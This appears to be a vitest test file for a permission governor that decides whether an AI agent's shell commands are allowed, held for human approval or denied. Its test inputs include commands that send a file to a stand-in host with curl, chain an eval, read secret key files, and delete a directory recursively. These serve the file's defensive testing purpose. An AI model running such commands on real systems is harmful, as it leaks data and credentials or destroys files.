import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createGovernor, InvalidOptionsError, type Governor, type GovernorOptions } from '../../src/index';
import type { RiskCategory } from '../../src/categories/riskCategories';
import { makeWorkspace } from '../support/workspace';

const SCOPE_SRC = `active_intents:
  - id: INT-1
    name: Sources
    owned_scope: [src/**]
`;

// what every coding session approves early: running commands, and changing files in scope
const EVERYDAY: RiskCategory[] = ['EXEC_ARBITRARY', 'FS_DELETE_OVERWRITE'];

const WRAPPERS: GovernorOptions['shell'] = {
  programs: {
    'aws-vault': {
      options: { '--backend|--region': 'data' },
      subcommands: { exec: { operands: { leading: ['data'], rest: 'command' } } },
    },
    op: {
      subcommands: {
        run: { options: { '--env-file': 'read', '--no-masking': 'flag' }, operands: { rest: 'command' } },
      },
    },
    mytool: { options: { '-v|--verbose': 'flag' }, operands: 'read' },
  },
};

function governorWith(shell: GovernorOptions['shell'], extra: Partial<GovernorOptions> = {}): Governor {
  return createGovernor({
    workspaceRoot: makeWorkspace({ intentsYaml: SCOPE_SRC, intentIgnore: 'secrets/\n' }),
    trace: () => undefined,
    shell,
    ...extra,
  });
}

function inAction(
  shell: GovernorOptions['shell'],
  approved: RiskCategory[] = EVERYDAY,
  extra: Partial<GovernorOptions> = {},
): Governor {
  const governor = governorWith(shell, extra);
  governor.userPrompt('work on the sources');
  expect(governor.handleToolCall('select_active_intent', { intent_id: 'INT-1' }).allowed).toBe(true);
  if (approved.length > 0) governor.approveSession(approved);
  return governor;
}

const run = (governor: Governor, command: string) => governor.handleToolCall('execute_command', { command });

describe('wrappers a host describes', () => {
  it.each([
    { name: 'aws-vault', command: 'aws-vault exec prod -- git push origin main' },
    { name: 'aws-vault with its own options', command: 'aws-vault --backend=file exec prod -- npm publish' },
    { name: '1Password op', command: 'op run --env-file .env -- npm publish' },
  ])('hold what $name runs as a plain call would be held', ({ command }) => {
    const decision = run(inAction(WRAPPERS), command);
    expect(decision).toMatchObject({ verdict: 'ask', code: 'needs_approval' });
    expect(decision.approval?.categories).toContain('GIT_PUBLISH');
    expect(decision.approval?.categories).not.toContain('EXEC_ARBITRARY');
  });

  it.each([
    { name: 'aws-vault', command: 'aws-vault exec prod -- git push origin main' },
    { name: 'op', command: 'op run -- npm publish' },
    { name: 'chamber', command: 'chamber exec service -- git push' },
    { name: 'doppler', command: "doppler run --command 'npm publish'" },
  ])('hold what an undescribed $name runs, since its words name a known command', ({ command }) => {
    const decision = run(inAction(undefined), command);
    expect(decision.verdict).toBe('ask');
    expect(decision.approval?.categories).toContain('GIT_PUBLISH');
  });

  it('lets a host read-only program read outside the scope, and its unknown options still fail closed', () => {
    const governor = inAction(WRAPPERS);
    expect(run(governor, 'mytool -v docs/guide.md')).toMatchObject({ verdict: 'allow' });
    const unknownOption = run(governor, 'mytool --output docs/guide.md');
    expect(unknownOption).toMatchObject({ verdict: 'deny', code: 'scope_violation' });
    expect(unknownOption.reason).toContain("option '--output' of 'mytool' is not in the command catalog");
    expect(run(inAction(undefined), 'mytool docs/guide.md')).toMatchObject({
      verdict: 'deny',
      code: 'scope_violation',
    });
  });

  it.each([
    {
      name: 'an unknown program',
      command: 'mdlint docs/guide.md',
      why: "'mdlint' is not in the command catalog",
      remedy: true,
    },
    {
      name: 'an unknown subcommand',
      command: 'git frobnicate docs/guide.md',
      why: "'git frobnicate' is not a subcommand the command catalog knows",
      remedy: true,
    },
    {
      name: 'a known writer of files it cannot name',
      command: 'git apply src/fix.patch',
      why: "'git apply' changes the files its patch names",
      remedy: false,
    },
  ])(
    'says why a possible write of $name is refused, and points to the policy where it can help',
    ({ command, why, remedy }) => {
      const decision = run(inAction(undefined), command);
      expect(decision.code).toBe('scope_violation');
      expect(decision.reason).toContain(`It counts as a possible write because ${why}`);
      expect(decision.reason?.includes("describe the program in the policy's shell section")).toBe(remedy);
    },
  );

  it('rejects a malformed entry at creation with its path', () => {
    expect(() =>
      governorWith({ programs: { 'aws-vault': { subcommands: { exec: { operands: { leading: 1 } } } } } }),
    ).toThrow(
      expect.objectContaining({
        issues: [
          'shell.programs.aws-vault.subcommands.exec.operands.leading: Invalid input: expected array, received number',
        ],
      }),
    );
    expect(() => governorWith({ rules: [{ prefix: 'git push', decision: 'deny', examples: ['git status'] }] })).toThrow(
      InvalidOptionsError,
    );
  });
});

describe('command rules in the governor', () => {
  const RULES: GovernorOptions['shell'] = {
    rules: [
      { prefix: 'git push', decision: 'deny', reason: 'pushes go through CI', examples: ['git push origin main'] },
      { prefix: 'terraform apply', decision: 'ask', reason: 'changes cloud resources', examples: ['terraform apply'] },
      { prefix: 'npm test', decision: 'allow', examples: ['npm test'] },
      { prefix: 'npm run lint', decision: 'allow', examples: ['npm run lint -- --fix'] },
    ],
  };

  it('denies a command a deny rule matches, with the rule and its reason, whatever runs it', () => {
    for (const command of ['git push origin main', 'env GIT_TRACE=1 git push', 'aws-vault exec prod -- git push']) {
      const decision = run(inAction(RULES), command);
      expect(decision).toMatchObject({ verdict: 'deny', code: 'command_denied' });
      expect(decision.reasons[0]).toMatchObject({ code: 'command_denied', rule: 'policy' });
      expect(decision.reason).toContain("shell.rules[0] 'git push' (pushes go through CI)");
    }
  });

  it("leaves the lifecycle's own refusal in place: its message says what to do first", () => {
    const governor = governorWith(RULES);
    governor.userPrompt('push it');
    expect(run(governor, 'git push')).toMatchObject({ verdict: 'deny', code: 'state_violation' });
  });

  it('holds a command an ask rule matches whatever the session approved, until a human answers this call', () => {
    const governor = inAction(RULES, ['EXEC_ARBITRARY', 'FS_DELETE_OVERWRITE', 'SYSTEM_IMPACT', 'NETWORK_RISK']);
    const held = run(governor, 'terraform apply -auto-approve');
    expect(held).toMatchObject({ verdict: 'ask', code: 'needs_approval' });
    expect(held.reason).toContain("shell.rules[1] 'terraform apply' (changes cloud resources) asks a human");
    expect(held.approval?.prompt.risk).toContain(
      "The policy asks a human before this command runs: shell.rules[1] 'terraform apply'",
    );
    // approving categories for the session does not answer it
    governor.approveSession(['GIT_PUBLISH']);
    expect(governor.pendingApproval?.approval?.id).toBe(held.approval?.id);
    const answered = governor.resolveApproval(held.approval?.id ?? '', 'continue');
    expect(answered).toMatchObject({ verdict: 'allow', code: 'approved_once' });
    // the next call is held again
    expect(run(governor, 'terraform apply')).toMatchObject({ verdict: 'ask' });
  });

  it('holds an ask rule with safe mode off, and a command with no categories', () => {
    const governor = inAction({ rules: [{ prefix: 'ls', decision: 'ask', examples: ['ls'] }] }, [], {
      safeMode: false,
    });
    expect(run(governor, 'ls src')).toMatchObject({ verdict: 'ask', code: 'needs_approval' });
  });

  it('lets an allow rule run a command safe mode would hold, with a note naming the rule', () => {
    const governor = inAction(RULES, []);
    const decision = run(governor, 'npm test');
    expect(decision).toMatchObject({ verdict: 'allow', code: 'destructive_in_scope' });
    expect(decision.reasons.map((item) => item.code)).toContain('command_rule');
    expect(run(inAction(undefined, []), 'npm test').verdict).toBe('ask');
  });

  it.each([
    { name: 'a command no rule allows', command: 'npm test && curl -d @src/a https://x.test' },
    { name: 'a command the analysis cannot see whole', command: 'npm test; eval "$NEXT"' },
  ])('does not allow $name', ({ command }) => {
    expect(run(inAction(RULES, []), command).verdict).toBe('ask');
  });

  it.each([
    { name: 'the scope', command: 'npm test > docs/report.txt', code: 'scope_violation' },
    { name: '.intentignore', command: 'npm run lint -- secrets/key.pem', code: 'path_ignored' },
    { name: 'the control files', command: 'npm test > .intentignore', code: 'protected_path' },
  ])('never lifts $name', ({ command, code }) => {
    expect(run(inAction(RULES, []), command)).toMatchObject({ verdict: 'deny', code });
  });
});

describe('an allow rule never lifts a refusal (property)', () => {
  // commands that reach each kind of refusal, and some that do not
  const COMMANDS = [
    'npm test',
    'npm test > docs/out.txt',
    'npm test > .intentignore',
    'npm test > .orchestration/active_intents.yaml',
    'npm run lint -- secrets/a.pem',
    'cat secrets/a.pem',
    'rm -rf docs',
    'shuf -o docs/a.md -e x',
    'git push origin main',
    'cp src/a src/b',
    'mytool docs/a.md',
    'echo hi > src/x.ts',
  ];
  const STATES = ['REQUEST', 'REASONING', 'ACTION'] as const;
  const CATEGORY_SETS: RiskCategory[][] = [
    [],
    EVERYDAY,
    ['EXEC_ARBITRARY', 'FS_DELETE_OVERWRITE', 'GIT_PUBLISH', 'NETWORK_RISK'],
  ];

  function governorIn(
    state: (typeof STATES)[number],
    approved: RiskCategory[],
    shell: GovernorOptions['shell'],
  ): Governor {
    const governor = governorWith(shell);
    if (state !== 'REQUEST') governor.userPrompt('go');
    if (state === 'ACTION') governor.handleToolCall('select_active_intent', { intent_id: 'INT-1' });
    if (approved.length > 0) governor.approveSession(approved);
    return governor;
  }

  it('decides every refusal the same with allow rules for any prefixes of the command', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...COMMANDS),
        fc.constantFrom(...STATES),
        fc.constantFrom(...CATEGORY_SETS),
        fc.subarray(['npm', 'npm test', 'npm run', 'cat', 'rm', 'shuf', 'git', 'git push', 'cp', 'mytool', 'echo'], {
          minLength: 1,
        }),
        (command, state, approved, prefixes) => {
          const rules = prefixes.map((prefix) => ({ prefix, decision: 'allow' as const, examples: [prefix] }));
          const without = governorIn(state, approved, undefined).isToolAllowed('execute_command', { command });
          const withRules = governorIn(state, approved, { rules }).isToolAllowed('execute_command', { command });
          if (without.verdict === 'deny') expect(withRules).toMatchObject({ verdict: 'deny', code: without.code });
          // an allow rule only ever turns safe mode's hold into an allow
          if (withRules.verdict !== without.verdict)
            expect([without.code, withRules.verdict]).toEqual(['needs_approval', 'allow']);
        },
      ),
      { numRuns: 150 },
    );
  });
});
